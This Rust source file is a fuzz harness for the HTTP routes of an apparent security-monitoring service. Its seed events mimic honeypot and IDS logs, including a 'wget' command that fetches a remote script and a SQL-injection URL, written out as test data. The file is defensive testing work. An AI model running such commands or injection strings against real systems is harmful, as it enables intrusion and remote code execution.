//! The routes' bounded fuzz harness: mutated request bodies, with valid and invalid content
//! types and tokens, through the whole router. What must hold for any request: an answer
//! that is not a 5xx (a panic would be a 500: the router catches it). Used by the CI test
//! (a few thousand bodies) and `examples/fuzz_routes.rs` (long runs).

use std::collections::BTreeMap;

use axum::Router;
use axum::body::Body;
use axum::http::{Method, Request, header};
use tower::ServiceExt;
use vigil_features::mutate::{Rng, mutate};

/// What a run saw.
#[derive(Debug, Clone, Default)]
pub struct FuzzReport {
    /// Requests sent.
    pub requests: u64,
    /// Answers by status code.
    pub statuses: BTreeMap<u16, u64>,
    /// Requests answered 5xx (route, status, the body's first bytes), at most 20.
    pub failures: Vec<String>,
}

const COWRIE: &str = r#"{"eventid":"cowrie.login.failed","timestamp":"2018-05-06T22:00:00Z","src_ip":"203.0.113.7","session":"s1","username":"root","password":"123456"}"#;
const COMMAND: &str = r#"{"eventid":"cowrie.command.input","timestamp":"2018-05-06T22:00:05Z","src_ip":"203.0.113.7","session":"s1","input":"wget http://198.51.100.9/x.sh"}"#;
const JSONL: &str = r#"{"timestamp":1525644000,"kind":"http_request","src_ip":"192.0.2.4","url":"/admin.php?id=1' OR 1=1","method":"GET","status":200}"#;
const SURICATA: &str = r#"{"timestamp":"2018-05-06T22:00:00.000000+0000","event_type":"alert","src_ip":"192.0.2.5","src_port":4444,"dest_ip":"10.0.0.1","dest_port":22,"proto":"TCP","alert":{"signature":"ET SCAN","category":"Attempted","severity":2}}"#;

/// Runs `iterations` mutated requests against `app`; `ingest` and `feedback` are tokens
/// the app grants (so that bodies reach the handlers, not only the auth check).
pub async fn fuzz_routes(
    app: &Router,
    ingest: &str,
    feedback: &str,
    iterations: u64,
    seed: u64,
) -> FuzzReport {
    let features: Vec<String> = (0..100).map(|i| format!("{}", f64::from(i) / 10.0)).collect();
    let vector = format!("[{}]", features.join(","));
    let seeds: Vec<(&str, String)> = vec![
        ("/v1/events", format!("{COWRIE}\n{COMMAND}\n")),
        ("/v1/events?format=jsonl", format!("{JSONL}\n{JSONL}\n")),
        ("/v1/events?format=suricata", format!("{SURICATA}\n")),
        (
            "/v1/events?format=ingest",
            format!("{{\"source_type\":\"cowrie\",\"events\":[{COWRIE}]}}"),
        ),
        ("/v1/score", format!("{{\"events\":[{COWRIE},{COMMAND}],\"format\":\"cowrie\"}}")),
        ("/v1/score", format!("{{\"features\":{vector},\"entity\":\"h\"}}")),
        ("/v1/score", "{\"entity\":\"203.0.113.7\"}".to_owned()),
        ("/v1/score?format=cowrie", format!("{COWRIE}\n")),
        (
            "/v1/feedback",
            format!("{{\"features\":{vector},\"verdict\":\"OVERRIDE\",\"correct_label\":\"APT\"}}"),
        ),
        (
            "/v1/feedback",
            "{\"prediction_id\":\"00000000000000000000000000000000\",\"verdict\":\"CONFIRM\"}"
                .to_owned(),
        ),
        ("/v1/learning/retrain", "{\"reason\":\"fuzz\"}".to_owned()),
    ];
    let types = [
        Some("application/json"),
        Some("application/x-ndjson"),
        Some("text/plain; charset=utf-8"),
        Some("text/xml"),
        Some("application/json; charset=\u{fffd}"),
        None,
    ];
    let mut rng = Rng::new(seed);
    let mut report = FuzzReport::default();
    for _ in 0..iterations {
        let (route, body) = &seeds[rng.below(seeds.len())];
        let body = if rng.below(8) == 0 {
            body.as_bytes().to_vec()
        } else {
            mutate(&mut rng, body.as_bytes(), 1 << 15)
        };
        let mut request = Request::builder().method(Method::POST).uri(*route);
        if let Some(t) = types[rng.below(types.len())] {
            request = request.header(header::CONTENT_TYPE, t);
        }
        let token = if route.starts_with("/v1/events") { ingest } else { feedback };
        if rng.below(4) != 0 {
            request = request.header(header::AUTHORIZATION, format!("Bearer {token}"));
        }
        let head = String::from_utf8_lossy(&body[..body.len().min(120)]).into_owned();
        let Ok(request) = request.body(Body::from(body)) else { continue };
        let status = match app.clone().oneshot(request).await {
            Ok(response) => response.status().as_u16(),
            Err(never) => match never {},
        };
        report.requests += 1;
        *report.statuses.entry(status).or_default() += 1;
        if status >= 500 && report.failures.len() < 20 {
            report.failures.push(format!("{route} -> {status}: {head}"));
        }
    }
    report
}
